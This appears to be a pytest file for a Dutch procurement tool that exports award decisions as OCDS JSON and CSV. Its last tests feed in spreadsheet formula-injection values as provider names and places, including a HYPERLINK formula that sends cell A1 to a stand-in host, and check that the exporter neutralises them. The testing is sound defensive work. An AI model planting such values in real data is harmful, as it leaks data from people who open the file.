"""`dossier export ocds|csv`: the award and admission decisions as open data.

The OCDS package is checked against the OCDS schemas shipped in dossier/export/schemas/ with
jsonschema directly (not only through the exporter's own check), and against besluiten.yaml read
independently with PyYAML.
"""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pytest
import yaml
from jsonschema import Draft4Validator
from referencing import Registry, Resource
from referencing.jsonschema import DRAFT4

from conftest import ROOTS, TWENTE, edit_spec, load_yaml, run_cli

SCHEMAS = Path(__file__).resolve().parent.parent / "dossier" / "export" / "schemas"
STATUS = {"toegelaten": "active", "gegund": "active", "afgewezen": "unsuccessful", "niet-gegund": "unsuccessful"}


def bundled_validator() -> Draft4Validator:
    release = json.loads((SCHEMAS / "release-schema.json").read_text(encoding="utf-8"))
    package = json.loads((SCHEMAS / "release-package-schema.json").read_text(encoding="utf-8"))
    registry = Registry().with_resource(release["id"], Resource.from_contents(release, default_specification=DRAFT4))
    return Draft4Validator(package, registry=registry, format_checker=Draft4Validator.FORMAT_CHECKER)


def yaml_decisions(folder: Path) -> list[tuple[str, str, str, str]]:
    """(aanbieder, deelsegment, uitkomst, verzonden) straight from besluiten.yaml."""
    data = load_yaml(folder / "besluiten.yaml")
    return [(b["aanbieder"], u["deelsegment"], u["uitkomst"], str(b["verzonden"]))
            for b in data.get("besluiten") or [] for u in b["uitkomsten"]]


@pytest.fixture(scope="module")
def twente_package(tmp_path_factory: pytest.TempPathFactory) -> dict:
    out = tmp_path_factory.mktemp("ocds") / "twente.json"
    result = run_cli("export", "ocds", str(TWENTE), "--out", str(out), "--ocid-prefix", "ocds-a1b2c3",
                     timeout=120)
    assert result.returncode == 0, result.stderr
    assert "geldig volgens OCDS 1.1.5" in result.stdout and f"→ {out}" in result.stdout
    return json.loads(out.read_text(encoding="utf-8"))


def test_bundled_schemas_are_ocds_1_1_5() -> None:
    release = json.loads((SCHEMAS / "release-schema.json").read_text(encoding="utf-8"))
    package = json.loads((SCHEMAS / "release-package-schema.json").read_text(encoding="utf-8"))
    assert release["id"] == "https://standard.open-contracting.org/schema/1__1__5/release-schema.json"
    assert package["properties"]["releases"]["items"]["$ref"] == release["id"]
    assert set(package["required"]) == {"uri", "publisher", "publishedDate", "releases", "version"}
    Draft4Validator.check_schema(release)
    Draft4Validator.check_schema(package)


def test_twente_package_validates_against_the_bundled_schema(twente_package: dict) -> None:
    errors = [f"{list(e.absolute_path)}: {e.message}" for e in bundled_validator().iter_errors(twente_package)]
    assert errors == []
    from dossier.export import ocds

    assert ocds.validate(twente_package) == []


def test_one_award_per_provider_and_deelsegment_decision(twente_package: dict) -> None:
    decided = yaml_decisions(TWENTE)
    release = twente_package["releases"][0]
    awards = {a["id"]: a for a in release["awards"]}
    assert len(release["awards"]) == len(decided) == len(set((a, d) for a, d, _, _ in decided))
    aanbieders = load_yaml(TWENTE / "aanbieders.yaml")["aanbieders"]
    parties = {p["id"]: p for p in release["parties"]}
    for aanbieder, deelsegment, uitkomst, verzonden in decided:
        award = awards[f"{aanbieder}-{deelsegment}"]
        assert award["status"] == STATUS[uitkomst]
        assert award["date"] == f"{verzonden}T00:00:00Z"
        assert [i["id"] for i in award["items"]] == [deelsegment]
        assert award["items"][0]["classification"] == {
            "scheme": "CPV", "id": "85311300", "description": "Maatschappelijke dienstverlening voor kinderen en jongeren"}
        (supplier,) = award["suppliers"]
        party = parties[supplier["id"]]
        assert party["identifier"] == {"scheme": "NL-KVK", "id": aanbieders[aanbieder]["kvk"],
                                       "legalName": aanbieders[aanbieder]["naam"]}
        assert supplier["name"] == party["name"] == aanbieders[aanbieder]["naam"]
        assert "tenderer" in party["roles"]
        if award["status"] == "active":
            assert "supplier" in party["roles"]
            assert award["contractPeriod"] == {"startDate": "2025-01-01T00:00:00Z", "endDate": "2028-12-31T00:00:00Z"}
        else:
            assert "contractPeriod" not in award
    assert {"active", "unsuccessful"} == {a["status"] for a in release["awards"]}


def test_release_metadata_and_tender(twente_package: dict) -> None:
    assert twente_package["version"] == "1.1"
    assert twente_package["publisher"] == {"name": "OZJT/Samen14"}
    release = twente_package["releases"][0]
    assert release["ocid"] == "ocds-a1b2c3-twente-2025"
    assert release["tag"] == ["tender", "award"] and release["initiationType"] == "tender"
    assert release["language"] == "nl"
    assert release["buyer"] == {"id": "opdrachtgever", "name": "OZJT/Samen14"}
    roles = {p["id"]: p["roles"] for p in release["parties"]}
    assert roles["opdrachtgever"] == ["buyer", "procuringEntity"]
    assert sum(1 for p in roles if p.startswith("gemeente-")) == 14
    tender = release["tender"]
    assert tender["title"] == "Inkoop jeugdhulp Twente 2025"
    assert tender["mainProcurementCategory"] == "services" and tender["procurementMethod"] == "open"
    segment_files = sorted((TWENTE / "segmenten").glob("*.yaml"))
    ids = [ds["id"] for f in segment_files for ds in load_yaml(f)["deelsegmenten"]]
    assert sorted(i["id"] for i in tender["items"]) == sorted(ids)
    assert tender["numberOfTenderers"] == len({a for a, _, _, _ in yaml_decisions(TWENTE)})
    # no personal data: provider contact persons stay out of the open data
    text = json.dumps(twente_package, ensure_ascii=False)
    for aanbieder in load_yaml(TWENTE / "aanbieders.yaml")["aanbieders"].values():
        assert aanbieder["contactpersoon"] not in text


def test_stdout_is_pure_json_and_output_is_reproducible(tmp_path: Path) -> None:
    first = run_cli("export", "ocds", str(ROOTS / "minimaal"), timeout=120)
    second = run_cli("export", "ocds", str(ROOTS / "minimaal"), timeout=120)
    assert first.returncode == 0, first.stderr
    assert first.stdout == second.stdout
    package = json.loads(first.stdout)
    assert "ocds-xxxxxx is een voorbeeld-voorvoegsel" in first.stderr
    assert "3 awards (2 active, 1 unsuccessful), geldig volgens OCDS 1.1.5" in first.stderr
    statuses = {a["id"]: a["status"] for a in package["releases"][0]["awards"]}
    assert statuses == {"de-horst-begeleiding": "active", "lettersprong-dyslexie": "active",
                        "taalkracht-dyslexie": "unsuccessful"}


def test_options_uri_license_and_bad_prefix(tmp_path: Path) -> None:
    result = run_cli("export", "ocds", str(ROOTS / "minimaal"), "--uri", "https://data.example.nl/ocds/proef.json",
                     "--license", "https://creativecommons.org/publicdomain/zero/1.0/", timeout=120)
    package = json.loads(result.stdout)
    assert package["uri"] == "https://data.example.nl/ocds/proef.json"
    assert package["license"] == "https://creativecommons.org/publicdomain/zero/1.0/"
    bad = run_cli("export", "ocds", str(ROOTS / "minimaal"), "--ocid-prefix", "ozjt", timeout=120)
    assert bad.returncode == 2 and "--ocid-prefix" in bad.stderr and bad.stdout == ""


def test_dossier_without_decisions_is_a_tender_release(minimaal: Path, tmp_path: Path) -> None:
    besluiten = minimaal / "besluiten.yaml"
    data = load_yaml(besluiten)
    data["besluiten"], data["gunningen"] = [], []
    besluiten.write_text(yaml.safe_dump(data, allow_unicode=True), encoding="utf-8")
    out = tmp_path / "leeg.json"
    result = run_cli("export", "ocds", str(minimaal), "--out", str(out), timeout=120)
    assert result.returncode == 0, result.stderr
    package = json.loads(out.read_text(encoding="utf-8"))
    assert list(bundled_validator().iter_errors(package)) == []
    release = package["releases"][0]
    assert release["tag"] == ["tender"] and "awards" not in release and "status" not in release["tender"]


def test_invalid_spec_writes_nothing(minimaal: Path, tmp_path: Path) -> None:
    (minimaal / "aanbieders.yaml").write_text("aanbieders: {}\n", encoding="utf-8")
    out = tmp_path / "x.json"
    for kind in ("ocds", "csv"):
        result = run_cli("export", kind, str(minimaal), "--out", str(out), timeout=120)
        assert result.returncode == 1
        assert "aanbieder 'de-horst' bestaat niet in aanbieders.yaml" in result.stderr
        assert not out.exists()


def test_schema_rejects_what_ocds_does_not_allow() -> None:
    """The check is real: a wrong status, a date that is no date-time and a dangling supplier fail."""
    import dossier
    from dossier.export import ocds

    package = ocds.release_package(dossier.load(ROOTS / "minimaal"))
    assert ocds.validate(package) == []
    award = package["releases"][0]["awards"][0]
    award["status"], award["date"] = "toegelaten", "2 juni 2025"
    award["suppliers"][0]["id"] = "NL-KVK-00000000"
    problems = ocds.validate(package)
    assert "releases/0/awards/0/status: 'toegelaten' is not one of ['pending', 'active', 'cancelled', 'unsuccessful', None]" in problems
    assert "releases/0/awards/0/date: '2 juni 2025' is not a 'date-time'" in problems
    assert any("awards/0/suppliers/0: verwijst naar partij 'NL-KVK-00000000'" in p for p in problems)


def read_csv(data: bytes) -> list[list[str]]:
    assert data.startswith(b"\xef\xbb\xbf"), "UTF-8 met BOM voor Excel"
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline=""), delimiter=";"))


def test_csv_has_one_row_per_decision(tmp_path: Path) -> None:
    out = tmp_path / "twente.csv"
    result = run_cli("export", "csv", str(TWENTE), "--out", str(out), timeout=120)
    assert result.returncode == 0, result.stderr
    decided = yaml_decisions(TWENTE)
    assert f"{TWENTE}: {len(decided)} regels → {out}" in result.stdout
    data = out.read_bytes()
    assert b"\r\n" in data and b";" in data
    header, *rows = read_csv(data)
    assert header[:6] == ["dossier", "segment", "deelsegment", "deelsegment-id", "inkoopvorm", "aanbieder"]
    assert len(rows) == len(decided)
    column = {name: i for i, name in enumerate(header)}
    for row, (aanbieder, deelsegment, uitkomst, verzonden) in zip(rows, decided):
        assert row[column["aanbieder-sleutel"]] == aanbieder
        assert row[column["deelsegment-id"]] == deelsegment
        assert row[column["uitkomst"]] == uitkomst.replace("-", " ")
        assert row[column["OCDS-status"]] == STATUS[uitkomst]
        assert row[column["verzonden"]] == verzonden
        if uitkomst == "afgewezen":
            assert row[column["niet voldaan aan"]].startswith("KIT-")
        if uitkomst in ("gegund", "niet-gegund"):
            assert row[column["einde opschortende termijn"]] > verzonden
        else:
            assert row[column["einde opschortende termijn"]] == ""


def test_csv_to_stdout_keeps_accents(tmp_path: Path, minimaal: Path) -> None:
    aanbieders = minimaal / "aanbieders.yaml"
    edit_spec(aanbieders, "Taalkracht Twente", "Taalkracht Één; \"Twente\"")
    result = run_cli("export", "csv", str(minimaal), timeout=120)
    assert result.returncode == 0, result.stderr
    assert "3 regels" in result.stderr
    rows = read_csv(result.stdout.encode("utf-8"))
    assert len(rows) == 4
    assert 'Taalkracht Één; "Twente"' in [r[5] for r in rows]


def test_every_data_file_of_init_and_export_is_package_data() -> None:
    """After `pip install` (not editable) the scaffold and the OCDS schemas must be in the wheel:
    every non-Python file under dossier/scaffold and dossier/export matches a package-data glob."""
    import fnmatch
    import tomllib

    root = SCHEMAS.parent.parent
    pyproject = tomllib.loads((root.parent / "pyproject.toml").read_text(encoding="utf-8"))
    globs = pyproject["tool"]["setuptools"]["package-data"]["dossier"]
    data = [p.relative_to(root).as_posix() for folder in ("scaffold", "export") for p in (root / folder).rglob("*")
            if p.is_file() and p.suffix not in (".py", ".pyc") and "__pycache__" not in p.parts]
    assert len(data) >= 12
    missing = [f for f in data if not any(fnmatch.fnmatch(f, g) and f.count("/") == g.count("/") for g in globs)]
    assert missing == []


# --- the CSV in a real spreadsheet ----------------------------------------------------------------------

HOSTILE = {  # aanbieders.yaml of the minimal dossier: what a provider's name or place could start with
    "naam: Jeugdhulp De Horst B.V.": """naam: '=HYPERLINK("https://example.invalid/?"&A1;"klik")'""",
    "naam: Lettersprong Dyslexiezorg": "naam: '+31 Lettersprong'",
    "plaats: Hengelo": "plaats: '@SUM(1+1)'",
    "naam: Taalkracht Twente": "naam: '-2+3 Taalkracht'",
    'kvk: "12345678"': 'kvk: "01234567"',
    'kvk: "34567890"': 'kvk: "00000042"',
}


def _calc() -> bool:
    from dossier.pdf import find_soffice

    soffice = find_soffice()
    return bool(soffice) and (Path(soffice).resolve().parent / "libsclo.so").exists()


def spreadsheet_cells(csv_file: Path, tmp_path: Path) -> dict[str, tuple[str | None, str]]:
    """Open `csv_file` in LibreOffice Calc as a Dutch user would (';', '"', UTF-8) and save it as
    .xlsx; every cell: reference → (its formula or None, the value shown)."""
    import subprocess
    import zipfile
    from xml.etree import ElementTree

    from dossier.pdf import find_soffice

    done = subprocess.run([find_soffice(), f"-env:UserInstallation=file://{tmp_path}/calc-profiel", "--headless",
                           "--infilter=CSV:59,34,76,1", "--convert-to", "xlsx", "--outdir", str(tmp_path),
                           str(csv_file)], capture_output=True, text=True, timeout=180)
    xlsx = tmp_path / (csv_file.stem + ".xlsx")
    assert xlsx.exists(), done.stdout + done.stderr
    ns = {"x": "http://schemas.openxmlformats.org/spreadsheetml/2006/main"}
    with zipfile.ZipFile(xlsx) as z:
        shared = ["".join(si.itertext()) for si in ElementTree.fromstring(z.read("xl/sharedStrings.xml"))]
        sheet = ElementTree.fromstring(z.read("xl/worksheets/sheet1.xml"))
    cells = {}
    for c in sheet.iterfind(".//x:c", ns):
        formula, value = c.find("x:f", ns), c.findtext("x:v", "", ns)
        cells[c.get("r")] = (None if formula is None else formula.text,
                             shared[int(value)] if c.get("t") == "s" else value)
    return cells


@pytest.mark.skipif(not _calc(), reason="LibreOffice Calc ontbreekt (apt-get install libreoffice-calc-nogui)")
def test_csv_in_a_spreadsheet_has_no_live_formula_and_keeps_kvk_zeros(minimaal: Path, tmp_path: Path) -> None:
    aanbieders = minimaal / "aanbieders.yaml"
    text = aanbieders.read_text(encoding="utf-8")
    for old, new in HOSTILE.items():
        assert old in text
        text = text.replace(old, new)
    aanbieders.write_text(text, encoding="utf-8")
    out = tmp_path / "besluiten.csv"
    result = run_cli("export", "csv", str(minimaal), "--out", str(out), timeout=120)
    assert result.returncode == 0, result.stderr
    _header, *rows = read_csv(out.read_bytes())
    assert [(r[5], r[7], r[8]) for r in rows] == [
        ("""'=HYPERLINK("https://example.invalid/?"&A1;"klik")""", '="01234567"', "Almelo"),
        ("'+31 Lettersprong", '="23456789"', "'@SUM(1+1)"),
        ("'-2+3 Taalkracht", '="00000042"', "Enschede"),
    ]

    cells = spreadsheet_cells(out, tmp_path)
    # the names and places are text, as written (the apostrophe shows), never a formula
    assert cells["F2"] == (None, """'=HYPERLINK("https://example.invalid/?"&A1;"klik")""")
    assert cells["F3"] == (None, "'+31 Lettersprong")
    assert cells["I3"] == (None, "'@SUM(1+1)")
    assert cells["F4"] == (None, "'-2+3 Taalkracht")
    # the KvK numbers are text with their leading zeros: a formula of only that string constant
    assert [cells[f"H{row}"] for row in (2, 3, 4)] == [('"01234567"', "01234567"), ('"23456789"', "23456789"),
                                                        ('"00000042"', "00000042")]
    formulas = {ref for ref, (formula, _value) in cells.items() if formula is not None}
    assert formulas == {"H2", "H3", "H4"}


def test_text_and_kvk_cells() -> None:
    from dossier.export.csv import kvk_cell, text_cell

    for start in ("=", "+", "-", "@", "\t", "\r", " =", "\n+"):
        assert text_cell(f"{start}1+2") == f"'{start}1+2"
    for safe in ("Jeugdhulp", "'=al een apostrof", "2025-06-02", "KIT-A-01, KIT-B-02", "", "a=b"):
        assert text_cell(safe) == safe
    assert kvk_cell("01234567") == '="01234567"'
    assert kvk_cell('1"+HYPERLINK("x")') == '1"+HYPERLINK("x")'  # never inside the formula: not eight digits
    assert kvk_cell("=1+2") == "'=1+2"
